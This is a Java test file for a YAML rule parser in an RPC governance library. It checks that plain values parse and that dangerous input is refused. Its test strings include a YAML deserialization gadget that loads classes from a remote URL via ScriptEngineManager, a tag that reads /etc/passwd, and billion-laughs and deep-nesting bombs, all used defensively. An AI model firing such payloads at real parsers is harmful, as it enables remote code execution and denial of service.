// SPDX-License-Identifier: Apache-2.0
// Copyright The Tern Authors
package io.tern.rpc.governance.yaml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.tern.rpc.spi.registry.RuleFormat;
import java.math.BigDecimal;
import java.time.Duration;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.ServiceLoader;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class YamlRulesTest {
    private final YamlRules yaml = new YamlRules();

    @Test
    void isFoundByTheServiceLoader() {
        assertThat(ServiceLoader.load(RuleFormat.class).stream()
                        .map(found -> found.get().name()))
                .containsExactly("yaml");
    }

    @Test
    void readsMapsListsTextsNumbersAndBooleans() {
        Map<String, @Nullable Object> expected = new LinkedHashMap<>();
        expected.put("text", "a b");
        expected.put("whole", 42L);
        expected.put("negative", -7L);
        expected.put("decimal", new BigDecimal("1.10"));
        expected.put("yes", true);
        expected.put("no", false);
        expected.put("none", null);
        expected.put("list", Arrays.asList("x", 1L, null));
        expected.put("map", Map.of("k", "v"));
        expected.put("quoted", "42");
        expected.put("folded", "a b\n");
        assertThat(yaml.parse("""
                        # what the console writes above a rule
                        ---
                        text: a b
                        whole: 42
                        negative: -7
                        decimal: 1.10
                        yes: true
                        no: false
                        none:
                        list:
                          - x
                          - 1
                          - ~
                        map: {k: v}
                        quoted: "42"
                        folded: >
                          a
                          b
                        ...
                        """)).isEqualTo(expected);
    }

    /** They would not come out as they were written, or mean another thing in YAML 1.1. */
    @ParameterizedTest
    @ValueSource(
            strings = {"yes", "on", "010", "0x1F", "1e3", ".inf", "20:30", "2024-01-01", "123456789012345678901", "True"
            })
    void otherPlainValuesAreTexts(String value) {
        assertThat(yaml.parse("a: " + value)).isEqualTo(Map.of("a", value));
    }

    @Test
    void jsonIsYaml() {
        assertThat(yaml.parse("{\"enabled\": true, \"conditions\": [\"=> host = 1\"], \"n\": 3}"))
                .isEqualTo(Map.of("enabled", true, "conditions", List.of("=> host = 1"), "n", 3L));
        assertThat(yaml.parse("[\"override://0.0.0.0/demo.Api?timeout=1\"]"))
                .isEqualTo(List.of("override://0.0.0.0/demo.Api?timeout=1"));
    }

    @Test
    void anEmptyTextIsNothing() {
        assertThat(yaml.parse("")).isNull();
        assertThat(yaml.parse("# nothing but a remark")).isNull();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://h/\"]]]]",
                "a: !!java.io.File [\"/etc/passwd\"]",
                "a: !!binary aGVsbG8=",
                "!!set {a, b}",
                "a: !own b",
                "a: !!str 1",
                "a: &x b",
                "a: &x [1]\nb: *x",
                "a: *x",
                "<<: *x",
                "a: 1\na: 2",
                "{a: 1, a: 1}",
                "1: a\n\"1\": b",
                "? [a, b]\n: c",
                "? {a: b}\n: c",
                "--- a\n--- b",
                "a: [1",
                "a: \"b",
                "a: b: c",
                "\ta: b",
                "a: \u0001",
                "%YAML 3.0\n---\na",
                "}"
            })
    void whatNoRuleNeedsIsRefused(String text) {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> yaml.parse(text))
                .withMessageNotContainingAny("java", "passwd", "override");
    }

    private record Bomb(String name, String text) {
        @Override
        public String toString() {
            return name;
        }
    }

    static List<Bomb> bombs() {
        String laughs = IntStream.range(0, 9)
                .mapToObj(
                        i -> "l" + i + ": &l" + i + " [" + (i == 0 ? "lol" : ("*l" + (i - 1) + ",").repeat(9)) + "]\n")
                .collect(Collectors.joining());
        IntFunction<String> open = count -> "[".repeat(count);
        return List.of(
                new Bomb("billion laughs", laughs),
                new Bomb("too long", "a: " + "x".repeat(RuleFormat.LONGEST)),
                new Bomb("lists in lists", open.apply(60_000)),
                new Bomb("maps in maps", "{a: ".repeat(15_000)),
                new Bomb("block lists in lists", "- ".repeat(30_000) + "a"),
                new Bomb("questions", "? ".repeat(30_000) + "a"),
                new Bomb(
                        "deep by indent",
                        IntStream.range(0, 300)
                                .mapToObj(i -> " ".repeat(i) + "a:\n")
                                .collect(Collectors.joining())),
                new Bomb("21 levels", open.apply(21) + "]".repeat(21)),
                new Bomb("many nodes", "[" + "1,".repeat(10_000) + "1]"),
                new Bomb(
                        "many keys",
                        IntStream.range(0, 6_000)
                                .mapToObj(i -> "k" + i + ": \n")
                                .collect(Collectors.joining())),
                new Bomb("many documents", "--- a\n".repeat(10_000)),
                new Bomb("many tags", "!".repeat(60_000)),
                new Bomb("many anchors", "&a ".repeat(20_000)),
                new Bomb("quotes", "\"" + "\\\\".repeat(30_000)),
                new Bomb("a key without end", "x".repeat(60_000) + "\n:"));
    }

    @ParameterizedTest
    @MethodSource("bombs")
    void bombsEndSoonAndAreRefused(Bomb bomb) {
        assertTimeoutPreemptively(
                Duration.ofSeconds(10),
                () -> assertThatIllegalArgumentException()
                        .isThrownBy(() -> yaml.parse(bomb.text()))
                        .satisfies(e -> assertThat(e.getMessage()).hasSizeLessThan(200)));
    }

    @Test
    void whatIsJustWithinTheLimitsIsRead() {
        assertThat(yaml.parse("[".repeat(20) + "]".repeat(20))).isInstanceOf(List.class);
        assertThat((List<?>) yaml.parse("[" + "1,".repeat(9_999) + "]")).hasSize(9_999);
    }

    @Provide
    Arbitrary<String> texts() {
        Arbitrary<String> pieces = Arbitraries.of(
                        "a",
                        "b: ",
                        "- ",
                        "\n",
                        "  ",
                        "[",
                        "]",
                        "{",
                        "}",
                        ",",
                        ":",
                        "\"",
                        "'",
                        "&x ",
                        "*x",
                        "!",
                        "!!str ",
                        "|",
                        ">",
                        "?",
                        "%",
                        "---\n",
                        "...\n",
                        "#",
                        "~",
                        "1",
                        "=> host = 1",
                        "\t",
                        "\u0000",
                        "\ud83d\ude00")
                .list()
                .ofMaxSize(25)
                .map(each -> String.join("", each));
        return Arbitraries.oneOf(pieces, Arbitraries.strings().ofMaxLength(60));
    }

    @Property(tries = 2_000)
    void anyTextIsReadOrRefused(@ForAll("texts") String text) {
        try {
            assertPlain(yaml.parse(text));
        } catch (IllegalArgumentException e) {
            assertThat(e.getMessage()).hasSizeLessThan(200);
        }
    }

    private static void assertPlain(@Nullable Object tree) {
        if (tree instanceof Map<?, ?> map) {
            map.forEach((key, value) -> {
                assertThat(key).isInstanceOf(String.class);
                assertPlain(value);
            });
        } else if (tree instanceof List<?> list) {
            list.forEach(YamlRulesTest::assertPlain);
        } else if (tree != null) {
            assertThat(tree).isInstanceOfAny(String.class, Long.class, BigDecimal.class, Boolean.class);
        }
    }
}
